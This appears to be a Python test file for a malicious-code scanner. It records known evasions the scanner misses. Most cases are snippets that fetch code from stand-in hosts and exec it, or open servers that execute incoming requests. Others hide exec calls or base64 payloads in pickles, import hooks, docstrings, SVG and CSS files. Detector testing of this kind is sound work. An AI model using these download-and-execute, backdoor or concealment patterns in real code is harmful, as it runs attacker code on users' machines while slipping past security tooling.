"""Evasions that were written when the engine was done, and that it was not changed for: what gets by is known."""

from __future__ import annotations

from tests.evasions.carriers import beside, own
from tests.evasions.receiving import arriving
from tests.evasions.runners import fetched
from tests.evasions.sample import CODE, SUSPICIOUS, b64

CASES = (
    arriving(
        "urllib3 pool", "import urllib3\nh = urllib3.HTTPSConnectionPool(HOST)\nexec(h.urlopen('GET', '/a').data)\n"
    ),
    arriving(
        "httpx async stream",
        "import asyncio, httpx\nasync def main():\n    async with httpx.AsyncClient() as c:\n        async with c.stream('GET', URL) as r:\n            exec(await r.aread())\nasyncio.run(main())\n",
    ),
    arriving(
        "aiohttp json",
        "import aiohttp, asyncio\nasync def main():\n    s = aiohttp.ClientSession()\n    r = await s.post(URL)\n    exec((await r.json())['c'])\nasyncio.run(main())\n",
    ),
    arriving(
        "requests post elapsed",
        "import requests\ns = requests.Session()\ns.headers['A'] = 'b'\nexec(s.post(URL, json={}).json()[0])\n",
    ),
    arriving(
        "couchbase",
        "from couchbase.cluster import Cluster\nexec(Cluster(URL).bucket('a').default_collection().get('k').value)\n",
    ),
    arriving(
        "sqlalchemy",
        "import sqlalchemy\ne = sqlalchemy.create_engine('postgresql://u@stage.example.invalid/d')\nwith e.connect() as c:\n    exec(c.execute(sqlalchemy.text('select a')).scalar())\n",
    ),
    arriving(
        "pandas sql",
        "import pandas as pd\nexec(pd.read_sql('select a', 'postgresql://u@stage.example.invalid/d').iloc[0, 0])\n",
    ),
    arriving(
        "asyncpg",
        "import asyncio, asyncpg\nasync def main():\n    c = await asyncpg.connect(host=HOST)\n    exec(await c.fetchval('select a'))\nasyncio.run(main())\n",
    ),
    arriving(
        "socket recv loop append",
        "import socket\ns = socket.socket(socket.AF_INET6)\ns.connect((HOST, 1))\nl = []\nwhile 1:\n    d = s.recv(1)\n    if d == b'.': break\n    l.append(d)\nexec(b''.join(l))\n",
    ),
    arriving(
        "socket wrapped class",
        "import socket\nclass R:\n    def __init__(self): self.s = socket.create_connection((HOST, 1))\n    def __iter__(self): return iter(self.s.makefile())\nfor l in R():\n    exec(l)\n",
    ),
    arriving(
        "http.server GET path",
        "from http.server import HTTPServer, BaseHTTPRequestHandler as B\nclass H(B):\n    def do_GET(self): exec(self.path[1:])\nHTTPServer(('', 1), H).handle_request()\n",
    ),
    arriving(
        "flask view",
        "from flask import Flask, request\na = Flask('a')\n@a.route('/', methods=['POST'])\ndef f():\n    exec(request.data)\n    return ''\na.run()\n",
        SUSPICIOUS,
    ),
    arriving(
        "xmlrpc server function",
        "from xmlrpc.server import SimpleXMLRPCServer\ns = SimpleXMLRPCServer(('', 1))\ns.register_function(exec)\ns.serve_forever()\n",
        SUSPICIOUS,
    ),
    arriving(
        "websockets server",
        "import asyncio, websockets\nasync def h(ws):\n    async for m in ws:\n        exec(m)\nasync def main():\n    async with websockets.serve(h, '', 1):\n        await asyncio.Future()\nasyncio.run(main())\n",
    ),
    arriving(
        "telegram bot polling by requests",
        "import requests, time\nwhile True:\n    for u in requests.get(URL + '/getUpdates').json()['result']:\n        exec(u['message']['text'])\n    time.sleep(1)\n",
    ),
    arriving(
        "mqtt decorated",
        "import paho.mqtt.client as m\nc = m.Client()\n@c.message_callback()\ndef f(a, b, msg):\n    exec(msg.payload)\nc.connect(HOST)\nc.loop_start()\n",
    ),
    arriving(
        "celery-like kombu",
        "from kombu import Connection\nwith Connection(URL) as c:\n    c.SimpleQueue('a').get().payload and exec(c.SimpleQueue('a').get().payload)\n",
    ),
    arriving(
        "rsync file",
        "import os\nos.system('rsync stage.example.invalid::a /tmp/a.py')\nexec(open('/tmp/a.py').read())\n",
    ),
    arriving(
        "scp file",
        "import subprocess\nsubprocess.run(['scp', 'u@stage.example.invalid:a', '/tmp/a.py'])\nexec(open('/tmp/a.py').read())\n",
    ),
    arriving(
        "git clone by command",
        "import os\nos.system('git clone https://stage.example.invalid/a /tmp/a')\nexec(open('/tmp/a/b.py').read())\n",
    ),
    arriving(
        "svn export",
        "import os\nos.system('svn export https://stage.example.invalid/a /tmp/a.py')\nexec(open('/tmp/a.py').read())\n",
    ),
    arriving(
        "curl to variable by run",
        "import subprocess as s\nr = s.run('curl -s ' + URL, shell=True, stdout=s.PIPE)\nexec(r.stdout.decode())\n",
    ),
    arriving("rpc by jsonrpc", "import jsonrpclib\nexec(jsonrpclib.Server(URL).code())\n"),
    arriving(
        "pyodbc",
        "import pyodbc\nexec(pyodbc.connect('DRIVER=x;SERVER=stage.example.invalid').cursor().execute('select a').fetchval())\n",
    ),
    arriving(
        "zipimport of fetched",
        "import sys, urllib.request\nurllib.request.urlretrieve(URL, '/tmp/z.zip')\nsys.path.insert(0, '/tmp/z.zip')\nimport hid\nexec('1')\n",
    ),
    arriving(
        "pooch unpack",
        "import pooch\nfor f in pooch.retrieve(URL, None, processor=pooch.Unzip()):\n    exec(open(f).read())\n",
    ),
    arriving("urlopen info", "from urllib import request\nexec(request.urlopen(URL).info()['X'])\n"),
    arriving(
        "urllib cookie jar",
        "import http.cookiejar, urllib.request\nj = http.cookiejar.CookieJar()\no = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(j))\no.open(URL)\nfor c in j:\n    exec(c.value)\n",
    ),
    arriving(
        "dnspython query answer loop",
        "import dns.resolver\nfor a in dns.resolver.query(HOST, 'TXT'):\n    for s in a.strings:\n        exec(s)\n",
    ),
    arriving(
        "trio nursery",
        "import trio\nasync def main():\n    s = await trio.open_tcp_stream(HOST, 1)\n    async for d in s:\n        exec(d)\ntrio.run(main)\n",
    ),
    fetched("exec in dict dispatch", "{'a': exec}['a'](X)\n"),
    fetched("lambda compile", "(lambda c: eval(compile(c, '', 'exec')))(X)\n"),
    fetched("atexit exec", "import atexit\natexit.register(exec, X)\n"),
    fetched("threading timer", "import threading\nthreading.Timer(0, exec, [X]).start()\n"),
    fetched("map exec", "list(map(exec, [X]))\n"),
    fetched("filter eval", "any(filter(eval, [X]))\n"),
    fetched("signal handler", "import signal\nsignal.signal(signal.SIGALRM, lambda s, f: exec(X))\nsignal.alarm(1)\n"),
    fetched(
        "__import__ hook builtins",
        "import builtins\no = builtins.__import__\ndef h(n, *a):\n    exec(X)\n    return o(n, *a)\nbuiltins.__import__ = h\n",
    ),
    fetched("descriptor", "class D:\n    def __get__(self, o, t): exec(X)\nclass A: d = D()\nA.d\n"),
    fetched(
        "pickle reduce",
        "import pickle\nclass A:\n    def __reduce__(self): return exec, (X,)\npickle.loads(pickle.dumps(A()))\n",
    ),
    fetched(
        "tempfile and run",
        "import subprocess, sys, tempfile\nf = tempfile.NamedTemporaryFile('w', suffix='.py', delete=False)\nf.write(X)\nf.close()\nsubprocess.Popen([sys.executable, f.name])\n",
    ),
    fetched(
        "pathlib and import",
        "import importlib, pathlib, sys\npathlib.Path('/tmp/hid.py').write_text(X)\nsys.path.append('/tmp')\nimportlib.import_module('hid')\n",
    ),
    fetched("ipython magic", "from IPython import get_ipython\nget_ipython().run_cell_magic('bash', '', X)\n"),
    fetched("asteval", "import asteval\nasteval.Interpreter()(X)\n"),
    fetched("gdb", "import gdb\ngdb.execute(X)\n"),
    fetched("blender text", "import bpy\nbpy.ops.script.python_file_run(filepath=X)\n"),
    fetched(
        "ruby by Popen stdin",
        "import subprocess\np = subprocess.Popen(['ruby'], stdin=subprocess.PIPE)\np.stdin.write(X.encode())\n",
    ),
    fetched("deno eval", "import subprocess\nsubprocess.run(['deno', 'eval', X])\n"),
    fetched("powershell -Command", "import subprocess\nsubprocess.run(['powershell', '-NoProfile', '-Command', X])\n"),
    fetched(
        "java -cp",
        "import subprocess\nopen('/tmp/a.jar', 'w').write(X)\nsubprocess.run(['java', '-jar', '/tmp/a.jar'])\n",
    ),
    own(
        "a TypedDict's key",
        "import base64, typing\nT = typing.TypedDict('T', {'PAYLOAD': str})\nexec(base64.b64decode(list(T.__annotations__)[0]))\n",
    ),
    own(
        "a module's constant by getattr",
        "import base64, sys\nK_1 = 'PAYLOAD'\nexec(base64.b64decode(getattr(sys.modules[__name__], 'K_1')))\n",
    ),
    own(
        "a property's documentation",
        "import base64\nclass A:\n    p = property(doc='PAYLOAD')\nexec(base64.b64decode(A.p.__doc__))\n",
    ),
    own(
        "a context variable",
        "import base64, contextvars\nv = contextvars.ContextVar('v', default='PAYLOAD')\nexec(base64.b64decode(v.get()))\n",
    ),
    own("a heap", "import base64, heapq\nexec(base64.b64decode(heapq.nsmallest(1, ['PAYLOAD'])[0]))\n"),
    own(
        "an f-string of parts",
        "import base64\na, b = 'PAYLOAD'[:8], 'PAYLOAD'[8:]\nexec(base64.b64decode(f'{a}{b}'))\n",
    ),
    own(
        "a type alias",
        "import base64, typing\nA = typing.Literal['PAYLOAD']\nexec(base64.b64decode(typing.get_args(A)[0]))\n",
    ),
    beside(
        "a parquet",
        "a.parquet",
        b"PAR1" + CODE.encode(),
        "import pandas\nexec(pandas.read_parquet(D + '/a.parquet')['c'][0])\n",
    ),
    beside("an HDF", "a.h5", b"\x89HDF" + CODE.encode(), "import h5py\nexec(h5py.File(D + '/a.h5')['c'][()])\n"),
    beside(
        "an svg's text",
        "a.svg",
        "<svg><desc>" + b64(CODE) + "</desc></svg>",
        "import re\nexec(base64.b64decode(re.search('<desc>(.*)</desc>', open(D + '/a.svg').read())[1]))\n",
    ),
    beside(
        "a stylesheet", "a.css", "/*" + b64(CODE) + "*/", "exec(base64.b64decode(open(D + '/a.css').read()[2:-2]))\n"
    ),
    beside(
        "a message pack",
        "a.msgpack",
        b"\x81\xa1c" + CODE.encode(),
        "import msgpack\nexec(msgpack.unpack(open(D + '/a.msgpack', 'rb'))['c'])\n",
    ),
    beside(
        "a protobuf",
        "a.pb",
        CODE.encode(),
        "from google.protobuf import struct_pb2\ns = struct_pb2.Value()\ns.ParseFromString(open(D + '/a.pb', 'rb').read())\nexec(s.string_value)\n",
    ),
)
